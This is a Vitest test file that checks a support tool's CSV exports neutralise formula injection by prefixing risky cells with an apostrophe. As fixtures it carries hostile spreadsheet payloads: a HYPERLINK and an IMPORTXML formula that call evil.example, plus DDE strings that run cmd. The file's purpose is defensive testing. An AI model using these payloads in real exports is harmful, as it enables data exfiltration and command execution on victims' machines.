/**
 * CSV formula injection: customer names, messages, campaign names and team names are written by
 * people outside (or by any staff member) and land in files support leads open in a spreadsheet.
 * Against a live server, every text cell of the outreach and support-metrics exports that would
 * start a formula (= + - @ tab CR) starts with ' instead; numbers stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsvText, csvCell } from '../../src/csv.ts';
import { startLiveServer, type LiveServer } from '../helpers/live.ts';

let server: LiveServer;
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const FORMULA_START = /^[=+\-@\t\r]/;

beforeAll(async () => {
  server = await startLiveServer();
}, 180_000);
afterAll(async () => server?.stop());

function textCells(csv: string): string[] {
  return parseCsvText(csv)
    .slice(1)
    .flatMap((r) => r.fields)
    .filter((f) => f !== '' && Number.isNaN(Number(f)));
}

describe('CSV exports neutralise formulas', () => {
  it("outreach export: names, e-mails, subjects and messages that start a formula start with ' instead", async () => {
    const db = server.database.db;
    const cluster = (
      await db.query<{ id: string }>(
        `INSERT INTO clusters (name, status) VALUES ('login loop', 'confirmed') RETURNING id`,
      )
    ).rows[0]?.id;
    const campaign = (
      await db.query<{ id: string }>(
        `INSERT INTO outreach_campaigns (cluster_id, name, channel, template, created_by) VALUES ($1, $2, 'email', 'Hi {name}', 'test') RETURNING id`,
        [cluster, PAYLOADS[0]],
      )
    ).rows[0]?.id;
    for (const [i, payload] of PAYLOADS.entries()) {
      const customer = (
        await db.query<{ id: string }>(
          `INSERT INTO customers (customer_id, name, email) VALUES ($1, $2, $3) RETURNING id`,
          [`${payload}#${i}`, payload, payload],
        )
      ).rows[0]?.id;
      await db.query(
        `INSERT INTO outreach (campaign_id, cluster_id, customer_ref, kind, status, message, delivery)
         VALUES ($1, $2, $3, 'at_risk', 'contacted', $4, 'export')`,
        [campaign, cluster, customer, payload],
      );
    }
    const res = await server.api(`/api/outreach/export?campaign_id=${campaign}&format=csv`);
    expect(res.status).toBe(200);
    const csv = await res.text();
    const rows = parseCsvText(csv).slice(1);
    expect(rows).toHaveLength(PAYLOADS.length);
    const cells = textCells(csv);
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    // Nothing is lost: the cell is the payload behind one apostrophe (the reader turns a quoted CR into LF).
    const asRead = (p: string) => `'${p}`.replace(/\r/g, '\n');
    for (const row of rows)
      for (const cell of row.fields)
        expect(
          PAYLOADS.some((p) => cell === asRead(p) || cell.startsWith(`${asRead(p)}#`)),
          JSON.stringify(cell),
        ).toBe(true);
  });

  it('support-metrics export: a team named like a formula is neutralised, the numbers are not', async () => {
    const team = '=IMPORTXML("http://evil.example","//a")';
    const user = await server.api('/api/users', {
      method: 'POST',
      body: JSON.stringify({ email: 'formula-team@example.com', role: 'agent', team, password: 'agent-password-0123' }),
    });
    expect(user.status).toBe(201);
    const db = server.database.db;
    const author = (
      await db.query<{ id: string }>(`INSERT INTO authors (source, handle) VALUES ('twitter', 'someone') RETURNING id`)
    ).rows[0]?.id;
    await db.query(
      `INSERT INTO cases (status, priority, category, assignee, source, author_id, subject, opened_at, resolved_at, first_response_at)
       VALUES ('resolved', 'normal', 'billing', 'formula-team@example.com', 'twitter', $1, 'x',
               now() - interval '2 hours', now() - interval '1 hour', now() - interval '90 minutes')`,
      [author],
    );
    const res = await server.api('/api/metrics/support?group_by=team&format=csv');
    expect(res.status).toBe(200);
    const rows = parseCsvText(await res.text());
    const teamRow = rows.find((r) => r.fields[0]?.includes('IMPORTXML'));
    expect(teamRow?.fields[0]).toBe(`'${team}`);
    expect(teamRow?.fields[2]).toBe('1'); // resolved: a number, written as is
  });

  it('leaves ordinary text and negative numbers alone', () => {
    expect(csvCell('Dana Kowalski')).toBe('Dana Kowalski');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
  });
});
